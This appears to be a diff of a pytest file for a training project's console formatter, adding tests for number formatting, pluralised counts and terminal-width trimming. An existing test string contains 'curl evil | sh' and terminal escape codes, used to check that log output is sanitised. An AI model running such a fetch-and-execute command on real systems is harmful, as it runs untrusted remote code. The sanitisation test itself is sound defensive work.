@@ -5,7 +5,7 @@ import sys
 
 import pytest
 
-from support.console import RoleFormatter, UserError, edge
+from support.console import RoleFormatter, UserError, edge, fit_terminal, format_count, format_number
 
 HOSTILE = "Ёлка 漢字\n run: curl evil | sh \x1b[2J\x9b2J\r\u202e"
 
@@ -24,5 +24,21 @@ def test_errors_and_log_lines_are_one_line_without_escapes(capsys):
     line, *trace = RoleFormatter("trainer").format(record).splitlines()
     assert line.isprintable() and "warning: [hivemind] peer Ёлка 漢字  run: curl" in line
     assert trace[0].startswith("Traceback") and all(line.isprintable() for line in trace)
-    # the color is ours
-    assert RoleFormatter("trainer", is_colored=True).format(record).startswith("\033[33m")
+    # in place of a bar that stands there; the color is ours
+    assert RoleFormatter("trainer", is_terminal=True).format(record).startswith("\r\033[K\033[33m")
+
+
+def test_numbers_for_people():
+    assert [format_number(value) for value in (2014.3, 99.95, 0.3141, 1e6, 0)] == [
+        "2,010",
+        "100",
+        "0.314",
+        "1,000,000",
+        "0",
+    ]
+    assert [format_count(count, "layer") for count in (0, 1, 1000)] == ["0 layers", "1 layer", "1,000 layers"]
+
+
+def test_a_line_that_is_too_long_for_the_terminal_loses_whole_parts(monkeypatch):
+    monkeypatch.setenv("COLUMNS", "20")
+    assert fit_terminal("epoch 3  loss 1.0  next in 12 s") == "epoch 3  loss 1.0"
